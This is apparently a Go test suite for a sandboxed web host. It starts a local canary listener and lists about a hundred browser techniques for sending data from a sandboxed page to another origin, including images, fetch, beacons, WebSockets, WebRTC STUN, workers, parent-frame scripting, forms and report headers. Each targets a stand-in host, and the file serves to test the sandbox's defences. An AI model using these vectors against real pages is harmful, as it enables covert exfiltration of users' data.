package web_test

import (
	"bufio"
	"fmt"
	"net"
	"net/http"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"
)

// canary is an address on another origin that no canvas may reach: one port, on which
// each TCP connection and UDP datagram is a hit. Each attack has its own.
type canary struct {
	tcp  net.Listener
	udp  net.PacketConn
	once sync.Once
	hit  chan struct{} // closed by the first hit
	how  string        // of the first hit

	mu   sync.Mutex
	said []string // the first line of each connection, and each datagram
	shut func()   // stops listening, after all connections have been read
}

func newCanary(t *testing.T) *canary {
	t.Helper()
	tcp, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	udp, err := net.ListenPacket("udp", tcp.Addr().String())
	if err != nil {
		t.Fatal(err)
	}
	c := &canary{tcp: tcp, udp: udp, hit: make(chan struct{})}
	var wg sync.WaitGroup
	wg.Go(c.serveTCP)
	wg.Go(c.serveUDP)
	c.shut = func() { _ = tcp.Close(); _ = udp.Close(); wg.Wait() }
	t.Cleanup(c.shut)
	return c
}

// host returns the canary's host and port.
func (c *canary) host() string { return c.tcp.Addr().String() }

func (c *canary) sing(how string) {
	c.once.Do(func() { c.how = how; close(c.hit) })
}

// received describes the hits.
func (c *canary) received() string {
	c.mu.Lock()
	defer c.mu.Unlock()
	return fmt.Sprintf("%s, saying %q", c.how, c.said)
}

func (c *canary) note(said string) {
	c.mu.Lock()
	defer c.mu.Unlock()
	c.said = append(c.said, said)
}

// lines returns the first line of each connection, and each datagram.
func (c *canary) lines() []string {
	c.mu.Lock()
	defer c.mu.Unlock()
	return slices.Clone(c.said)
}

// serveTCP answers enough HTTP for a browser to continue.
func (c *canary) serveTCP() {
	var conns sync.WaitGroup
	defer conns.Wait()
	for {
		conn, err := c.tcp.Accept()
		if err != nil {
			return
		}
		c.sing("a connection")
		conns.Go(func() {
			defer conn.Close()
			_ = conn.SetReadDeadline(time.Now().Add(time.Second))
			line, _ := bufio.NewReader(conn).ReadString('\n')
			c.note(line)
			_, _ = fmt.Fprint(conn, "HTTP/1.1 204 No Content\r\nAccess-Control-Allow-Origin: *\r\nConnection: close\r\n\r\n")
		})
	}
}

func (c *canary) serveUDP() {
	buf := make([]byte, 2048)
	for {
		n, _, err := c.udp.ReadFrom(buf)
		if err != nil {
			return
		}
		c.note(string(buf[:n]))
		c.sing("a datagram")
	}
}

// attack is one way to get data out of a canvas.
type attack struct {
	name string
	// page is the canvas's document; CANARY is replaced by the canary's host and port.
	page string
	// more are further files of the canvas.
	more map[string]string
	// headers are those of the document, for attacks that only run with an app.
	headers map[string]string
	// falls are the protections that must be removed for the attack to succeed, which
	// proves that it works and that nothing else stops it. The default is all around
	// the document.
	falls []strip
	// holds is the reason why the attack fails although none of our protections stops
	// it.
	holds string
}

// settled notifies the host that the attack has had its time.
const settled = `<script type="module">import { send } from "/.ahp/canvas.js"; setTimeout(() => send("done"), 900);</script>`

// app returns the attack as an app.
func (a attack) app(t *testing.T, i int, c *canary) site {
	s := a.site(i, c)
	s.app = newApp(t)
	s.app.HandleFunc("/index.html", func(w http.ResponseWriter, _ *http.Request) {
		for name, value := range a.headers {
			w.Header().Set(name, strings.ReplaceAll(value, "CANARY", c.host()))
		}
		w.Header().Set("Content-Type", "text/html")
		fmt.Fprint(w, s.files["index.html"])
	})
	for name, body := range s.files {
		if name != "index.html" {
			s.app.HandleFunc("/"+name, func(w http.ResponseWriter, r *http.Request) {
				http.ServeContent(w, r, name, time.Time{}, strings.NewReader(body))
			})
		}
	}
	s.app.HandleFunc("/out", func(w http.ResponseWriter, r *http.Request) {
		http.Redirect(w, r, "http://"+c.host(), http.StatusFound)
	})
	s.path = "index.html"
	return s
}

// site returns the attack as a canvas.
func (a attack) site(i int, c *canary) site {
	fill := func(s string) string { return strings.ReplaceAll(s, "CANARY", c.host()) }
	files := map[string]string{"index.html": "<!doctype html><meta charset=utf-8><title>attack</title><body>" + fill(a.page) + settled}
	for name, body := range a.more {
		files[name] = fill(body)
	}
	return site{id: fmt.Sprintf("a%d", i), title: a.name, files: files}
}

// js is an attack in one script.
func js(code string) string { return "<script>" + code + "</script>" }

// inFrame runs code in the document of a new frame within the canvas, once loaded.
func inFrame(src, code string) string {
	return fmt.Sprintf(`<iframe id=f src="%s" onload="(function(w,d){try{%s}catch(e){}})(this.contentWindow,this.contentDocument)"></iframe>`, src, strings.ReplaceAll(code, `"`, "&quot;"))
}

// webrtc connects window w to the canary as a STUN server. It waits until the page is
// loaded, because Chromium kills the process.
func webrtc(server string) string {
	return fmt.Sprintf(`setTimeout(function(){var p=new w.RTCPeerConnection({iceServers:[{urls:"%s",username:"u",credential:"c"}]});p.createDataChannel("x");p.createOffer().then(function(o){p.setLocalDescription(o)})},300)`, server)
}

const (
	sendImage = `var i=d.createElement("img");i.src="http://CANARY/i";(d.body||d.documentElement).append(i);`
	sendFetch = `w.fetch("http://CANARY/f",{mode:"no-cors"});`
	// unseen is a click that asks.js does not get.
	unseen     = `a.onclick=(e)=>e.stopPropagation();a.click()`
	workerBody = `fetch("http://CANARY/w",{mode:"no-cors"}).catch(()=>{});try{importScripts("http://CANARY/i.js")}catch{}`
)

// Protections that stop attacks. For a sandbox row, only the sandbox does.
var (
	canvasBare = []strip{"answer: Content-Security-Policy", "answer: Connection-Allowlist", "worker"}
	canvasOpen = []strip{"answer: Connection-Allowlist"}
	frameBare  = []strip{"frame: Content-Security-Policy", "frame: Connection-Allowlist", "answer: Content-Security-Policy", "answer: Connection-Allowlist", "worker"}
	frameOpen  = []strip{"frame: Connection-Allowlist"}
	assetBare  = []strip{"asset: Content-Security-Policy", "asset: Connection-Allowlist", "worker"}
	headersToo = []strip{"headers", "answer: Content-Security-Policy", "answer: Connection-Allowlist", "worker"}
	unsandbox  = []strip{"sandbox", "answer: Connection-Allowlist", "frame: Connection-Allowlist"}
)

var attacks = []attack{
	{name: "img", page: `<img src="http://CANARY/x.png">`},
	{name: "picture", page: `<picture><source srcset="http://CANARY/x.png"><img></picture>`},
	{name: "input image", page: `<input type=image src="http://CANARY/x.png">`},
	{name: "svg use", holds: "browsers take a use from the same origin alone", page: `<svg><use href="http://CANARY/x.svg#a"/></svg>`},
	{name: "svg image", page: `<svg><image href="http://CANARY/x.png" width=9 height=9 /></svg>`},
	{name: "css import", page: `<style>@import url("http://CANARY/x.css");</style>`},
	{name: "css url", page: `<div style="background:url(http://CANARY/x.png)">x</div>`},
	{name: "css elsewhere", page: `<div style="cursor:url(http://CANARY/c),auto;mask-image:url(http://CANARY/m);list-style:url(http://CANARY/l);border-image:url(http://CANARY/b)">x</div>`},
	{name: "stylesheet", page: `<link rel=stylesheet href="http://CANARY/x.css">`},
	{name: "font", page: `<style>@font-face{font-family:x;src:url(http://CANARY/x.woff2)}p{font-family:x}</style><p>text</p>`},
	{name: "icon", holds: "icons of frames are not loaded", page: `<link rel=icon href="http://CANARY/x.ico">`},
	{name: "manifest", holds: "manifests of frames are not loaded", page: `<link rel=manifest href="http://CANARY/x.json">`},
	{name: "video", page: `<video src="http://CANARY/x.mp4" autoplay muted></video>`},
	{name: "video poster", page: `<video poster="http://CANARY/x.png"></video>`},
	{name: "audio", page: js(`new Audio("http://CANARY/x.mp3").play().catch(()=>{})`)},
	{name: "playlist", page: js("var v=document.createElement('video');v.muted=v.autoplay=true;document.body.append(v);v.src=URL.createObjectURL(new Blob(['#EXTM3U\\n#EXT-X-VERSION:3\\n#EXT-X-TARGETDURATION:2\\n#EXTINF:2,\\nhttp://CANARY/a.ts\\n#EXT-X-ENDLIST\\n'],{type:'application/vnd.apple.mpegurl'}))")},
	{name: "track", holds: "not loaded before the video is", page: `<video src="data:video/mp4;base64,AAAA"><track default src="http://CANARY/x.vtt"></video>`},
	{name: "object", page: `<object data="http://CANARY/x"></object>`},
	{name: "embed", page: `<embed src="http://CANARY/x">`},
	{name: "script", page: `<script src="http://CANARY/x.js"></script>`},
	{name: "module import", page: js(`import("http://CANARY/x.js").catch(()=>{})`)},
	{name: "audio worklet", page: js(`new AudioContext().audioWorklet.addModule("http://CANARY/x.js").catch(()=>{})`)},
	{name: "xslt stylesheet", page: `<iframe src="/x.xml"></iframe>`, more: map[string]string{"x.xml": `<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="http://CANARY/x.xsl"?><a/>`}},
	{name: "xslt import", page: js("try{new XSLTProcessor().importStylesheet(new DOMParser().parseFromString('<xsl:stylesheet version=\"1.0\" xmlns:xsl=\"http://www.w3.org/1999/XSL/Transform\"><xsl:import href=\"http://CANARY/i.xsl\"/></xsl:stylesheet>','text/xml'))}catch{}")},
	{name: "fetch", page: js(`fetch("http://CANARY/x",{mode:"no-cors"}).catch(()=>{})`)},
	{name: "fetch keepalive", page: js(`fetch("http://CANARY/x",{mode:"no-cors",keepalive:true,method:"POST",body:"x"}).catch(()=>{})`)},
	{name: "xhr", page: js(`var x=new XMLHttpRequest();x.open("GET","http://CANARY/x");x.send()`)},
	{name: "xhr synchronous", page: js(`var x=new XMLHttpRequest();x.open("GET","http://CANARY/x",false);try{x.send()}catch{}`)},
	{name: "beacon", page: js(`navigator.sendBeacon("http://CANARY/x","data")`)},
	{name: "event source", page: js(`new EventSource("http://CANARY/x")`)},
	{name: "fetch later", page: js(`try{fetchLater("http://CANARY/x",{activateAfter:0})}catch{}`)},
	{name: "websocket", page: js(`new WebSocket("ws://CANARY/x")`)},
	{name: "webtransport", page: js(`try{new WebTransport("https://CANARY/x").ready.catch(()=>{})}catch{}`)},
	{name: "webrtc", holds: "it names no server; without shim.js the page would die of it", page: js(`new RTCPeerConnection()`)},
	{name: "webrtc stun", falls: canvasOpen, page: inFrame("about:blank", webrtc("stun:CANARY"))},
	{name: "webrtc turn over tcp", falls: canvasOpen, page: inFrame("about:blank", webrtc("turn:CANARY?transport=tcp"))},
	{name: "blob worker", page: js("new Worker(URL.createObjectURL(new Blob([`" + workerBody + "`])))")},
	{name: "websocket of a blob worker", page: js("new Worker(URL.createObjectURL(new Blob([`new WebSocket('ws://CANARY/')`])))")},
	{name: "worker", page: js(`new Worker("/w.js")`), more: map[string]string{"w.js": workerBody}},
	{name: "shared worker", holds: "shared workers are refused, whatever they want", page: js(`new SharedWorker("/w.js")`), more: map[string]string{"w.js": workerBody}},
	{name: "worker of another origin", holds: "browsers start workers from the same origin alone", page: js(`try{new Worker("http://CANARY/w.js")}catch{}`)},
	{name: "our own script as a worker", holds: "our scripts want nothing from elsewhere", page: js(`new Worker("/.ahp/canvas.js",{type:"module"}); new Worker("/.ahp/sw.js")`)},
	{name: "service worker of the canvas", holds: "the host gives no script but sw.js for one", page: js(`navigator.serviceWorker.register("/evil.js",{scope:"/evil/"}).catch(()=>{})`), more: map[string]string{"evil.js": workerBody}},
	{name: "service worker removed", page: js(`navigator.serviceWorker.getRegistrations().then(rs=>Promise.all(rs.map(r=>r.unregister()))).then(()=>fetch("http://CANARY/x",{mode:"no-cors"})).catch(()=>{})`)},
	{name: "iframe", falls: canvasOpen, page: `<iframe src="http://CANARY/x"></iframe>`},
	{name: "srcdoc frame", page: `<iframe srcdoc="<img src=http://CANARY/x><script>fetch('http://CANARY/y',{mode:'no-cors'})</script>"></iframe>`},
	{name: "data frame", page: `<iframe src="data:text/html,<img src=http://CANARY/x>"></iframe>`},
	{name: "blob frame", page: js("var f=document.createElement('iframe');f.src=URL.createObjectURL(new Blob(['<img src=http://CANARY/x>'],{type:'text/html'}));document.body.append(f)")},
	{name: "blank frame", page: inFrame("about:blank", sendImage+sendFetch)},
	{name: "javascript frame", page: `<iframe src="javascript:'<img src=http://CANARY/x>'"></iframe>`},
	{name: "nested canvas frame", page: `<iframe src="/sub.html"></iframe>`, more: map[string]string{"sub.html": `<!doctype html><img src="http://CANARY/x">`}},
	{name: "nested drawing", page: `<iframe src="/x.svg"></iframe>`, more: map[string]string{"x.svg": `<svg xmlns="http://www.w3.org/2000/svg"><filter id="f"><feImage href="http://CANARY/f.png"/></filter><rect width="9" height="9" filter="url(#f)"/><script href="http://CANARY/s.js"/><foreignObject><img xmlns="http://www.w3.org/1999/xhtml" src="http://CANARY/i"/></foreignObject></svg>`}},
	{name: "frame that navigates", falls: canvasOpen, page: inFrame("/sub.html", `w.location="http://CANARY/x"`), more: map[string]string{"sub.html": `<!doctype html>x`}},
	{name: "error page of the worker", page: inFrame("/absent.html", sendImage+sendFetch)},
	{name: "error page of the host", page: inFrame("/.ahp/absent.html", sendImage+sendFetch)},
	{name: "our script as a document", falls: assetBare, page: inFrame("/.ahp/canvas.js", sendImage+sendFetch)},
	{name: "our frame again", falls: frameBare, page: inFrame("/.ahp/frame.html", sendImage+sendFetch)},
	{name: "outer frame image", falls: frameBare, page: js(`(function(d){` + sendImage + `})(parent.document)`)},
	{name: "outer frame fetch", falls: frameBare, page: js(`parent.fetch("http://CANARY/x",{mode:"no-cors"}).catch(()=>{})`)},
	{name: "outer frame script", falls: frameBare, page: js(`var s=parent.document.createElement("script");s.src="http://CANARY/x.js";parent.document.body.append(s)`)},
	{name: "outer frame inline script", falls: frameBare, page: js(`var s=parent.document.createElement("script");s.textContent="fetch('http://CANARY/x',{mode:'no-cors'})";parent.document.body.append(s)`)},
	{name: "outer frame frames", falls: frameOpen, page: js(`var f=parent.document.createElement("iframe");f.src="http://CANARY/x";parent.document.body.append(f)`)},
	{name: "outer frame worker", falls: frameBare, page: js("try{new parent.Worker(parent.URL.createObjectURL(new parent.Blob([`" + workerBody + "`])))}catch{}")},
	{name: "outer frame websocket", falls: frameBare, page: js(`try{new parent.WebSocket("ws://CANARY/x")}catch{}`)},
	{name: "outer frame webrtc", falls: frameOpen, page: js(`(function(w){` + webrtc("stun:CANARY") + `})(parent)`)},
	{name: "outer frame navigates", holds: "a sandboxed frame may not navigate the one around it; the two rows below can", page: js(`parent.location="http://CANARY/x"`)},
	{name: "outer frame link", falls: frameBare, page: js(`var a=parent.document.createElement("a");a.href="http://CANARY/x";parent.document.body.append(a);a.click()`)},
	{name: "outer frame refresh", falls: frameBare, page: js(`parent.document.head.insertAdjacentHTML("beforeend","<meta http-equiv=refresh content='0;url=http://CANARY/x'>")`)},
	{name: "outer frame form", falls: frameOpen, page: js(`var f=parent.document.createElement("form");f.action="http://CANARY/x";f.method="post";parent.document.body.append(f);f.submit()`)},
	{name: "outer frame goes to our page for direct urls", holds: "that page hears the app page alone", page: js(`var a=parent.document.createElement("a");a.href="http://localhost:"+location.port+"/direct.html#"+encodeURIComponent("http://CANARY/x");parent.document.body.append(a);a.click()`)},
	{name: "location", falls: canvasOpen, page: js(`location="http://CANARY/x"`)},
	{name: "meta refresh", falls: canvasOpen, page: `<meta http-equiv=refresh content="0;url=http://CANARY/x">`},
	{name: "top location", falls: unsandbox, page: js(`try{top.location="http://CANARY/x"}catch{}`)},
	{name: "link to top", falls: unsandbox, page: `<a id=a href="http://CANARY/x" target=_top>x</a>` + js(unseen)},
	{name: "link", falls: canvasOpen, page: `<a id=a href="http://CANARY/x">x</a>` + js(unseen)},
	{name: "link to a new window", falls: unsandbox, page: `<a id=a href="http://CANARY/x" target=_blank>x</a>` + js(unseen)},
	{name: "link to a new window over TLS", falls: unsandbox, page: `<a id=a href="https://CANARY/x" target=_blank>x</a>` + js(unseen)},
	{name: "link that is pointed at", holds: "only where it can be opened", page: `<a id=a href="http://CANARY/x">x</a>` + js(`for(var e of ["mouseover","mousedown","mouseup"])a.dispatchEvent(new MouseEvent(e,{bubbles:true}));a.focus()`)},
	{name: "window.open", falls: unsandbox, page: inFrame("about:blank", `w.open("http://CANARY/x")`)},
	{name: "window.open of the outer frame", falls: unsandbox, page: js(`parent.open("http://CANARY/x")`)},
	{name: "ping", page: `<a id=a href="#x" ping="http://CANARY/x">x</a>` + js(`a.click()`)},
	{name: "download", falls: canvasOpen, page: `<a id=a href="http://CANARY/x" download>x</a>` + js(unseen)},
	{name: "form get", falls: canvasOpen, page: `<form id=f action="http://CANARY/x"><input name=a value=b></form>` + js(`f.submit()`)},
	{name: "form post", falls: canvasOpen, page: `<form id=f action="http://CANARY/x" method=post><input name=a value=b></form>` + js(`f.submit()`)},
	{name: "form to top", falls: unsandbox, page: `<form id=f action="http://CANARY/x" target=_top></form>` + js(`f.submit()`)},
	{name: "form to a frame", falls: canvasOpen, page: `<iframe name=n></iframe><form id=f action="http://CANARY/x" target=n></form>` + js(`f.submit()`)},
	{name: "base", page: `<base href="http://CANARY/"><img src="x.png">`},
	{name: "prefetch", page: `<link rel=prefetch href="http://CANARY/x">`},
	{name: "preload", page: `<link rel=preload as=image href="http://CANARY/x">`},
	{name: "modulepreload", page: `<link rel=modulepreload href="http://CANARY/x.js">`},
	{name: "preconnect", holds: "not done in a frame of this kind", page: `<link rel=preconnect href="http://CANARY/">`},
	{name: "preconnect over TLS", holds: "not done in a frame of this kind", page: `<link rel=preconnect href="https://CANARY/">`},
	{name: "preconnect of the outer frame", holds: "not done in a frame of this kind", page: js(`parent.document.head.insertAdjacentHTML("beforeend","<link rel=preconnect href=http://CANARY/>")`)},
	{name: "speculation rules", holds: "not done in frames", page: `<script type=speculationrules>{"prefetch":[{"source":"list","urls":["http://CANARY/x"]}],"prerender":[{"source":"list","urls":["http://CANARY/y"]}]}</script>`},
	{name: "header: report of a policy", falls: headersToo, headers: map[string]string{"Content-Security-Policy": "img-src 'none'; report-uri http://CANARY/r"}, page: `<img src="/x.png">`},
	{name: "header: report only", falls: headersToo, headers: map[string]string{"Content-Security-Policy-Report-Only": "img-src 'none'; report-uri http://CANARY/r"}, page: `<img src="/x.png">`},
	{name: "header: reporting endpoints", holds: "they are gathered for longer than a test waits", headers: map[string]string{"Reporting-Endpoints": `r="http://CANARY/r"`, "Content-Security-Policy": "img-src 'none'; report-to r"}, page: `<img src="/x.png">`},
	{name: "header: speculation rules", holds: "not done in frames", headers: map[string]string{"Speculation-Rules": `"http://CANARY/s"`}},
	{name: "header: link", holds: "the host drops it too", headers: map[string]string{"Link": "<http://CANARY/x.css>; rel=preload; as=style"}},
	{name: "header: refresh", holds: "the host drops it too", headers: map[string]string{"Refresh": "0;url=http://CANARY/x"}},
	{name: "redirect", holds: "the host refuses it", page: js(`fetch("/out",{mode:"no-cors"}).catch(()=>{})`) + `<iframe src="/out"></iframe><img src="/out">`, headers: map[string]string{"X-App": "it is one"}},
	{name: "report of a policy", holds: "a meta element may not name a reporter", page: `<meta http-equiv=Content-Security-Policy content="img-src 'none'; report-uri http://CANARY/r"><img src="data:,x">`},
}
